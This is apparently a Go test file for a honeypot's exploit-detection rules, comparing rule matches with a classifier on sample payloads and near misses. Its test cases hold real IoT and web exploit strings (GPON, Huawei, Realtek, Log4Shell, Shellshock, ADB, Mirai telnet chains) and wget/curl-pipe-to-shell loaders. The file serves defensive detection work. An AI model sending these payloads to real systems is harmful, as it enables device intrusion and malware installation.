package rules

import (
	"bytes"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/classify"
)

func adbHeader(cmd string, n int, bad bool) []byte {
	h := make([]byte, 24)
	copy(h, cmd)
	h[12] = byte(n)
	for i := 0; i < 4; i++ {
		h[20+i] = cmd[i] ^ 0xff
	}
	if bad {
		h[23] ^= 0x01
	}
	return h
}

func cat(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

// builtinCases are the payloads of internal/classify's pattern tests, with
// the pattern each must give.
func builtinCases() []struct {
	name    string
	payload []byte
	want    string
} {
	cnxn := cat([]byte("CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1"), []byte("host::\x00"))
	shellBody := []byte("shell:cd /data/local/tmp/; busybox wget http://192.0.2.7/w -O -> /data/local/tmp/w.sh; sh /data/local/tmp/w.sh\x00")
	return []struct {
		name    string
		payload []byte
		want    string // pattern name, "" for no match
	}{
		{"empty", nil, ""},
		{"benign http", []byte("GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n"), ""},

		{"gpon", []byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.1/gpon+-O+/tmp/g;sh+/tmp/g`&ipv=0"), "gpon-diag-form"},
		{"gpon lower case path", []byte("POST /gponform/diag_form HTTP/1.1\r\n\r\n"), ""},
		{"huawei", []byte("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nAuthorization: Digest username=dslf-config\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/x -r /mips)</NewStatusURL>"), "huawei-hg532-upgrade"},
		{"huawei other path", []byte("POST /ctrlt/DeviceUpgrade HTTP/1.1\r\n\r\n"), ""},
		{"realtek", []byte("POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<NewInternalClient>`cd /var; wget http://192.0.2.1/r; chmod 777 r; ./r`</NewInternalClient>"), "realtek-upnp-soap"},
		{"realtek descriptor fetch only", []byte("GET /picsdesc.xml HTTP/1.1\r\nHost: 192.0.2.9:52869\r\n\r\n"), ""},
		{"realtek client without path", []byte("<NewInternalClient>192.168.1.2</NewInternalClient>"), ""},
		{"jaws", []byte("GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\n"), "jaws-shell"},
		{"jaws near miss path", []byte("GET /shells HTTP/1.1\r\n\r\n"), ""},
		{"jaws near miss method", []byte("POST /shell?cd+/tmp HTTP/1.1\r\n\r\n"), ""},
		{"netgear mozi", []byte("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n"), "netgear-setup-cgi"},
		{"netgear without cmd", []byte("GET /setup.cgi?next_file=index.htm HTTP/1.1\r\n\r\n"), ""},
		{"thinkphp", []byte("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1\r\n"), "thinkphp-invokefunction"},
		{"thinkphp case", []byte("GET /public/index.php?s=x/InvokeFunction&function=CALL_USER_FUNC_ARRAY HTTP/1.1\r\n"), "thinkphp-invokefunction"},
		{"thinkphp s= only", []byte("GET /index.php?s=/index/\\think\\app/invokefunction&function=phpinfo HTTP/1.1\r\n"), "thinkphp-invokefunction"},
		{"thinkphp invokefunction alone", []byte("GET /api/invokefunction HTTP/1.1\r\n"), ""},
		{"log4shell", []byte("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n"), "log4shell-jndi"},
		{"log4shell upper", []byte("X-Api-Version: ${JNDI:rmi://192.0.2.1/a}"), "log4shell-jndi"},
		{"log4shell lower lookup", []byte("User-Agent: ${${lower:j}ndi:ldap://192.0.2.1/a}"), "log4shell-jndi"},
		{"log4shell default lookup", []byte("User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"), "log4shell-jndi"},
		{"log4shell urlencoded", []byte("uname=%24%7Bjndi%3Aldap%3A%2F%2F172.16.238.11%3A1389%2Fa%7D&password="), "log4shell-jndi"},
		{"log4shell near miss", []byte("User-Agent: ${java:version} {jndi: $jndi: ${jnd"), ""},
		{"shellshock", []byte("GET /cgi-bin/test.cgi HTTP/1.1\r\nUser-Agent: () { :;}; /bin/ping -c1 10.0.0.1\r\n\r\n"), "shellshock"},
		{"shellshock spaced", []byte("User-Agent: () { :; }; /bin/bash -c \"wget http://192.0.2.1/x -O /tmp/x\"\r\n"), "shellshock"},
		{"shellshock ignored", []byte("Cookie: () { ignored;};/bin/id\r\n"), "shellshock"},
		{"shellshock near miss js", []byte("var f = function () { return 1 }; g(() { x(); });"), ""},
		{"shellshock split line", []byte("X: () {\r\n :;};"), ""},
		{"adb connect", cnxn, "adb-connect"},
		{"adb connect truncated", []byte("CNXN\x00\x00\x00\x01"), "adb-connect"},
		{"adb connect bad magic", cat([]byte("CNXN"), make([]byte, 20), []byte("host::")), ""},
		{"adb connect not at start", cat([]byte("x"), cnxn), ""},
		{"adb shell", cat(adbHeader("OPEN", len(shellBody), false), shellBody), "adb-shell"},
		{"adb connect and shell", cat(cnxn, adbHeader("OPEN", len(shellBody), false), shellBody), "adb-shell"},
		{"adb shell bad magic", cat(adbHeader("OPEN", len(shellBody), true), []byte("shell:id\x00")), ""},
		{"adb open sync", cat(adbHeader("OPEN", 6, false), []byte("sync:\x00")), ""},
		{"adb shell text", []byte("OPEN the door and run shell:ls for me please"), ""},
		{"busybox mirai", []byte("/bin/busybox MIRAI\r\n"), "busybox-token"},
		{"busybox ecchi at end", []byte("enable\r\n/bin/busybox ECCHI"), "busybox-token"},
		{"busybox after chain command", []byte("cat /proc/mounts; /bin/busybox ZZEUX\r\n"), "busybox-token"},
		{"busybox applet", []byte("/bin/busybox cat /proc/mounts\r\n"), ""},
		{"busybox mixed case", []byte("/bin/busybox Mirai\r\n"), ""},
		{"busybox short token", []byte("/bin/busybox AB\r\n"), ""},
		{"busybox token then lower", []byte("/bin/busybox ABCdef\r\n"), ""},
		{"busybox no space", []byte("/bin/busyboxMIRAI\r\n"), ""},
		{"chain full", []byte("enable\r\nsystem\r\nshell\r\nsh\r\n"), "mirai-telnet-chain"},
		{"chain coalesced tail", []byte("\r\nsystem\r\nshell\r\n"), "mirai-telnet-chain"},
		{"chain loader", []byte("enable\r\nshell\r\nsh\r\n"), "mirai-telnet-chain"},
		{"chain shell sh split", []byte("shell\r\nsh"), "mirai-telnet-chain"},
		{"chain cr nul", []byte("enable\r\x00system\r\x00"), "mirai-telnet-chain"},
		{"chain lf", []byte("system\nshell\n"), "mirai-telnet-chain"},
		{"chain sh alone", []byte("sh\r\n"), ""},
		{"chain shell alone", []byte("shell\r\n"), ""},
		{"chain enable alone", []byte("enable\r\n"), ""},
		{"chain system alone", []byte("system\r\n"), ""},
		{"chain on one line", []byte("enable system shell sh\r\n"), ""},
		{"chain word inside line", []byte("the system\r\nshell\r\n"), ""},
		{"chain shell show", []byte("shell\r\nshow run\r\n"), ""},
		{"chain backwards", []byte("sh\r\nshell\r\nsystem\r\nenable\r\n"), ""},
		{"echo elf", []byte(`echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00' > upnp`), "echo-elf"},
		{"echo elf double quotes", []byte(`echo -ne "\x7f\x45\x4c\x46\x02"`), "echo-elf"},
		{"echo elf upper hex", []byte(`echo -ne '\x7F\x45\x4C\x46'`), "echo-elf"},
		{"echo elf truncated", []byte(`echo -ne '\x7f\x45\x4c'`), ""},
		{"printf elf", []byte(`printf '\x7f\x45\x4c\x46'`), ""},
		{"echo elf probe", []byte(`/bin/busybox echo -ne '\x45\x4c\x46'`), "echo-elf-probe"},
		{"echo ok", []byte(`echo -e "\x6F\x6B"`), ""},
		{"wget stdout", []byte("/bin/busybox wget http://192.0.2.1:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper"), "wget-stdout"},
		{"stdout without wget", []byte("cat x -O - > y"), ""},
		{"curl pipe sh", []byte("curl http://192.0.2.1/x.sh | sh"), "fetch-pipe-shell"},
		{"curl pipe bash", []byte("curl -s http://192.0.2.1/y|bash"), "fetch-pipe-shell"},
		{"curl semicolon sh", []byte("curl -fsSL 192.0.2.1/z -o z;sh z"), "fetch-pipe-shell"},
		{"wget pipe sh", []byte("wget -qO - http://192.0.2.1/.x/2sh | sh > /dev/null 2>&1 &"), "fetch-pipe-shell"},
		{"curl pipe shuf", []byte("curl http://192.0.2.1/list | shuf"), ""},
		{"curl download only", []byte("curl -O http://192.0.2.1/y"), ""},
		{"wget http", []byte("cd /tmp; wget http://192.0.2.1/bins.sh"), "wget-http"},
		{"wget option before url", []byte("wget -c http://192.0.2.1/.x/1sh -P /var/run && sh /var/run/1sh &"), "wget-http"},
		{"wget plus", []byte("GET /cgi?x=wget+http://192.0.2.1/a HTTP/1.1"), "wget-http"},
		{"wget percent", []byte("GET /cgi?x=wget%20http%3A%2F%2F192.0.2.1%2Fa HTTP/1.1"), "wget-http"},
		{"wget no scheme", []byte("wget koficial.tk/info"), ""},
		{"which wget", []byte("which wget 2>/dev/null"), ""},
		{"wget user agent", []byte("User-Agent: Wget/1.21.2\r\nAccept: */*\r\n"), ""},
		{"wget url in next command", []byte("wget; curl http://192.0.2.1/"), ""},
		{"tftp g r", []byte("tftp -g -r mips 192.0.2.1"), "tftp-get"},
		{"tftp r g", []byte("tftp -r tftp2.sh -g 192.0.2.1; sh tftp2.sh"), "tftp-get"},
		{"tftp c get", []byte("tftp 192.0.2.1 -c get tftp1.sh"), "tftp-get"},
		{"tftp probe", []byte("tftp; wget; /bin/busybox"), ""},
		{"tftp host only", []byte("tftp 192.0.2.1"), ""},
		{"tftp gx", []byte("tftp -gx 192.0.2.1"), ""},
		{"chmod 777", []byte("chmod 777 dvrHelper"), "chmod-exec"},
		{"chmod x", []byte("cd /tmp && chmod +x a && ./a"), "chmod-exec"},
		{"chmod 755", []byte("chmod 755 a"), ""},
		{"chmod ux", []byte("chmod u+x a"), ""},
		{"uname", []byte("uname -a"), ""},

		// Priority: the specific exploit wins over the loader it carries.
		{"shellshock carrying loader", []byte("User-Agent: () { :; }; wget http://192.0.2.1/x; chmod 777 x"), "shellshock"},
		{"busybox before chmod", []byte("chmod 777 x; /bin/busybox ECCHI"), "busybox-token"},
	}
}

func builtinEngine(t testing.TB) *Engine {
	t.Helper()
	s, err := LoadBuiltin(Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Unsupported) > 0 {
		t.Fatalf("built-in rules unsupported: %v", s.Unsupported)
	}
	e, err := Compile(s)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// adapterPattern returns the built-in pattern name of the rule the adapter
// matches in payload ("" for none).
func adapterPattern(a *ExploitAdapter, e *Engine, payload []byte) string {
	id := a.Match(payload)
	if id < 0 {
		return ""
	}
	return e.Rules()[id].Pattern()
}

func classifyPattern(m classify.ExploitMatcher, payload []byte) string {
	id := m.Match(payload)
	if id < 0 {
		return ""
	}
	n, _ := m.Pattern(id)
	return n
}

func TestBuiltinRulesCoverEveryPattern(t *testing.T) {
	e := builtinEngine(t)
	cm := classify.NewBuiltinExploits()
	payload, cmd := map[string]bool{}, map[string]bool{}
	for _, r := range e.Rules() {
		p := r.Pattern()
		if p == "" {
			t.Errorf("sid %d: no pattern metadata", r.SID)
		}
		if r.SID < 9000001 {
			t.Errorf("sid %d: not a local sid", r.SID)
		}
		if r.needs&(1<<BufCmdline) != 0 {
			cmd[p] = true
		} else {
			payload[p] = true
		}
	}
	for i := 0; i < cm.NumPatterns(); i++ {
		n, _ := cm.Pattern(i)
		if !payload[n] {
			t.Errorf("pattern %s has no payload rule", n)
		}
	}
	for p := range cmd {
		if !payload[p] {
			t.Errorf("command rule for %s, which has no payload rule", p)
		}
	}
}

func TestBuiltinRulesMatchLikeClassify(t *testing.T) {
	e := builtinEngine(t)
	a := NewExploitAdapter(e)
	cm := classify.NewBuiltinExploits()
	for _, tt := range builtinCases() {
		if got := adapterPattern(a, e, tt.payload); got != tt.want {
			t.Errorf("%s: rules give %q, want %q (payload %q)", tt.name, got, tt.want, tt.payload)
		}
		if got := classifyPattern(cm, tt.payload); got != tt.want {
			t.Fatalf("%s: classify gives %q, want %q: the copied table is stale", tt.name, got, tt.want)
		}
	}
}

// TestBuiltinRulesRandomPayloads compares the rules with classify's matcher
// on payloads spliced from the pattern-test payloads and noise.
func TestBuiltinRulesRandomPayloads(t *testing.T) {
	e := builtinEngine(t)
	a := NewExploitAdapter(e)
	cm := classify.NewBuiltinExploits()
	var parts [][]byte
	for _, tt := range builtinCases() {
		parts = append(parts, tt.payload)
	}
	noise := [][]byte{[]byte("\r\n"), []byte(" "), []byte(";"), []byte("\x00"), []byte("|"), []byte("sh"), []byte("A"), []byte("wget "), []byte("://")}
	rng := rand.New(rand.NewPCG(7, 9))
	for i := 0; i < 20000; i++ {
		var b []byte
		for k := 0; k < 1+rng.IntN(4); k++ {
			if rng.IntN(3) == 0 {
				b = append(b, noise[rng.IntN(len(noise))]...)
				continue
			}
			p := parts[rng.IntN(len(parts))]
			if len(p) == 0 {
				continue
			}
			x, y := rng.IntN(len(p)), rng.IntN(len(p)+1)
			if x > y {
				x, y = y, x
			}
			if rng.IntN(2) == 0 {
				x, y = 0, len(p)
			}
			b = append(b, p[x:y]...)
		}
		if got, want := adapterPattern(a, e, b), classifyPattern(cm, b); got != want {
			t.Fatalf("payload %q: rules give %q, classify %q", b, got, want)
		}
	}
}

// TestBuiltinRulesCowrieCommands compares both on the real attacker commands
// of the shared Cowrie log, as payloads and as command lines.
func TestBuiltinRulesCowrieCommands(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(sharedDir(t), "logs/cowrie-emansih/cowrie_cmd.uniq-counts.txt"))
	if err != nil {
		t.Skip(err)
	}
	e := builtinEngine(t)
	a := NewExploitAdapter(e)
	cm := classify.NewBuiltinExploits()
	m := NewMatcher(e)
	n, hits := 0, 0
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		i := strings.IndexByte(line, ' ')
		if i < 0 {
			continue
		}
		cmd, err := strconv.Unquote(line[i+1:])
		if err != nil {
			continue
		}
		n++
		want := classifyPattern(cm, []byte(cmd))
		if got := adapterPattern(a, e, []byte(cmd)); got != want {
			t.Errorf("command %q: rules give %q, classify %q", cmd, got, want)
		}
		if want != "" {
			hits++
		}
		// The command-line rules give the same patterns as the payload
		// rules of those patterns on the same bytes.
		if got, want := patternSet(e, m.Command(cmd, nil, nil)), patternSet(e, m.Payload([]byte(cmd), nil, nil)); !cmdPatternsAgree(got, want, cmdPatterns) {
			t.Errorf("command %q: command rules give %v, payload rules %v", cmd, got, want)
		}
	}
	if n < 700 || hits == 0 {
		t.Fatalf("read %d commands, %d with a pattern: want >= 700 and some", n, hits)
	}
}

// patternSet returns the built-in pattern names of alerts.
func patternSet(e *Engine, as []Alert) map[string]bool {
	out := map[string]bool{}
	for _, a := range as {
		out[e.Rules()[a.Rule].Pattern()] = true
	}
	return out
}

// cmdPatterns are the patterns the built-in file has command-line rules for.
var cmdPatterns = []string{"busybox-token", "echo-elf", "echo-elf-probe", "wget-stdout", "fetch-pipe-shell", "wget-http", "tftp-get", "chmod-exec"}

// cmdPatternsAgree compares two pattern sets on the patterns in only.
func cmdPatternsAgree(a, b map[string]bool, only []string) bool {
	for _, p := range only {
		if a[p] != b[p] {
			return false
		}
	}
	for p := range a {
		if !slices.Contains(only, p) {
			return false
		}
	}
	return true
}
